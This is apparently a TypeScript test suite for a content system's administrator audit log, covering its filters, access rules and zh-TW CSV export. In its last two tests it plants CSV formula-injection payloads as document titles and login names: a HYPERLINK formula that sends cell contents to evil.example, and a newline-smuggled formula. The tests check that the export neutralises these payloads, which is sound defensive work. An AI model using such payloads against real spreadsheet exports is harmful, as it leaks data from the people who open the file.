import { ACCOUNT_PATHS, type AuditPage } from '../../../src/shared/accounts.types';
import { logIn, signIn, type EditorClient } from '../support/sign-in';
import { FORMULA_START, readCsv } from '../support/csv-reader';
import { expectErrorBody } from '../support/http-client';
import type { SqlValue } from '../support/test-engine';
import type { TestServer } from '../support/test-server';
import { startAccountsServer } from './support/accounts-server';

// 2026-11-21 23:30 in Taipei is 15:30 UTC the same day; 2026-11-22 00:30 Taipei is 16:30 UTC on the 21st.
const LATE_ON_21ST = Date.parse('2026-11-21T15:30:00Z');
const EARLY_ON_22ND = Date.parse('2026-11-21T16:30:00Z');

describe('audit log for administrators', () => {
  let server: TestServer;
  let admin: EditorClient;
  let editor: EditorClient;

  beforeAll(async () => {
    server = await startAccountsServer();
    admin = await signIn(server, 'admin');
    editor = await signIn(server, 'editor');
    // The test's own logins are audited too; the rows below are the ones its filters are about.
    await server.sql("DELETE FROM audit_log WHERE action LIKE 'login.%'");
    const insert = (...row: SqlValue[]) =>
      server.sql(
        "INSERT INTO audit_log (site, at, account, action, doc_id, revision, detail) VALUES ('default', ?, ?, ?, ?, ?, ?)",
        row,
      );
    const at = (ms: number) => new Date(ms);
    await insert(at(LATE_ON_21ST), 'editor', 'save', 'item:news:news-001', 2, '{"note":"逗號, 與 "引號""}');
    await insert(at(EARLY_ON_22ND), 'writer', 'publish', 'item:news:news-002', 3, null);
    await insert(at(EARLY_ON_22ND + 1000), 'admin', 'account.create', null, null, '{"target":"x"}');
    await insert(
      at(EARLY_ON_22ND + 2000),
      'editor',
      'login.failure',
      null,
      null,
      '{"reason":"otp","ip":"203.0.113.9"}',
    );
    await insert(at(EARLY_ON_22ND + 3000), 'editor', 'publish', 'chrome:banner', 4, null);
    const titleOf = async (docId: string) => {
      const sql = 'SELECT draft_json FROM documents WHERE doc_id = ?';
      const [row] = await server.sql<{ draft_json: string }>(sql, [docId]);
      return (JSON.parse(row!.draft_json) as { title: string }).title;
    };
    newsTitle = await titleOf('item:news:news-001');
    otherTitle = await titleOf('item:news:news-002');
  });
  let newsTitle = '';
  let otherTitle = '';
  afterAll(() => server.close());

  const page = async (query: string) =>
    (await admin.send<AuditPage>('GET', `${ACCOUNT_PATHS.audit}?${query}`)).body;

  it('filters by account, action, document and Taipei dates, with the total beside the page', async () => {
    expect((await page('account=writer')).rows.map((row) => row.action)).toEqual(['publish']);
    expect((await page('action=account.*')).rows.map((row) => row.account)).toEqual(['admin']);
    expect((await page('docId=item:news:news-001')).rows.map((row) => row.revision)).toEqual([2]);
    const day21 = await page('from=2026-11-21&to=2026-11-21');
    expect(day21.rows.map((row) => row.account)).toEqual(['editor']);
    const day22 = await page('from=2026-11-22&to=2026-11-22&limit=1');
    expect(day22.total).toBe(4);
    expect(day22.rows).toHaveLength(1);
    expect(day22.rows[0]).toEqual(
      expect.objectContaining({ account: 'editor', at: new Date(EARLY_ON_22ND + 3000).toISOString() }),
    );
  });

  it('names each line’s document by its title, not its id', async () => {
    const rows = (await page('from=2026-11-21&to=2026-11-22')).rows;
    expect(newsTitle).not.toBe('');
    expect(rows.find((row) => row.docId === 'item:news:news-001')?.document).toBe(newsTitle);
    expect(rows.find((row) => row.docId === 'chrome:banner')?.document).toBe('橫幅');
    expect(rows.find((row) => row.action === 'account.create')?.document).toBeNull();
  });

  it('refuses a limit over 200 and a day that does not exist', async () => {
    expectErrorBody(await admin.send('GET', `${ACCOUNT_PATHS.audit}?limit=201`), 400);
    const wrong = await admin.send('GET', `${ACCOUNT_PATHS.audit}?from=2026-02-31`);
    expect(expectErrorBody(wrong, 400).fields).toEqual({ from: '日期格式不正確，例如 2026-11-22' });
  });

  it("keeps a document reader's own entries open to them, and the whole log closed", async () => {
    const own = await editor.send<AuditPage>('GET', `${ACCOUNT_PATHS.audit}?docId=item:news:news-001`);
    expect(own.status).toBe(200);
    expect(own.body.rows).toHaveLength(1);
    expect((await editor.send('GET', ACCOUNT_PATHS.audit)).status).toBe(403);
    expect(
      (await editor.send('GET', `${ACCOUNT_PATHS.audit}?docId=item:news:news-001&account=x`)).status,
    ).toBe(403);
  });

  it('exports the same rows as CSV with a BOM, a zh-TW header and Taipei times', async () => {
    const response = await fetch(`${server.baseUrl}${ACCOUNT_PATHS.auditCsv}?from=2026-11-21&to=2026-11-22`, {
      headers: { access_token: admin.token },
    });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="audit-.*\.csv"$/);
    const bytes = Buffer.from(await response.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = bytes.subarray(3).toString('utf8').trimEnd().split('\r\n');
    expect(lines[0]).toBe('時間,帳號,動作,文件,版本,說明,IP');
    expect(lines).toContain(
      `2026-11-21 23:30:00,editor,暫存,${newsTitle},2,"{""note"":""逗號, 與 ""引號""""}",`,
    );
    expect(lines).toContain(`2026-11-22 00:30:00,writer,發布,${otherTitle},3,,`);
    expect(lines).toContain(
      '2026-11-22 00:30:02,editor,登入失敗,,,原因：兩步驟驗證碼錯誤；IP：203.0.113.9,203.0.113.9',
    );
    expect(lines).toContain('2026-11-22 00:30:03,editor,發布,橫幅,4,,');
    // A title typed like a formula stays text in a spreadsheet.
    const [row] = await server.sql<{ draft_json: string | object }>(
      'SELECT draft_json FROM documents WHERE doc_id = ?',
      ['item:news:news-003'],
    );
    const draft = typeof row!.draft_json === 'string' ? JSON.parse(row!.draft_json) : row!.draft_json;
    await server.sql('UPDATE documents SET draft_json = ? WHERE doc_id = ?', [
      JSON.stringify({ ...draft, title: '=HYPERLINK("http://x.example")' }),
      'item:news:news-003',
    ]);
    await server.sql(
      "INSERT INTO audit_log (site, at, account, action, doc_id, revision, detail) VALUES ('default', ?, ?, ?, ?, ?, ?)",
      [new Date(EARLY_ON_22ND + 4000), 'editor', 'save', 'item:news:news-003', 5, null],
    );
    const again = await fetch(`${server.baseUrl}${ACCOUNT_PATHS.auditCsv}?action=save&from=2026-11-22`, {
      headers: { access_token: admin.token },
    });
    expect(await again.text()).toContain(`,暫存,"'=HYPERLINK(""http://x.example"")",5,`);
    expect(lines).toHaveLength(6);
    expect((await editor.send('GET', ACCOUNT_PATHS.auditCsv)).status).toBe(403);
  });

  it('keeps account names typed at a failed sign-in inert and on one row each', async () => {
    const planted = ['=HYPERLINK("http://evil.example/?"&A2,"開啟")', 'nobody\n=1+2'];
    for (const account of planted) {
      expect((await logIn(server, account, 'wrong')).status).toBe(401);
    }
    const response = await fetch(`${server.baseUrl}${ACCOUNT_PATHS.auditCsv}?action=login.failure`, {
      headers: { access_token: admin.token },
    });
    const rows = readCsv(await response.text());
    expect(rows[0]).toEqual(['時間', '帳號', '動作', '文件', '版本', '說明', 'IP']);
    // Every row starts with its time, so none begins inside a cell, and every row has all columns.
    for (const row of rows.slice(1)) {
      expect(row[0]).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/);
      expect(row).toHaveLength(7);
    }
    const accounts = rows.slice(1).map((row) => row[1]);
    expect(accounts).toEqual(expect.arrayContaining([`'${planted[0]}`, planted[1]]));
    for (const cell of rows.flat()) expect(cell).not.toMatch(FORMULA_START);
  });
});
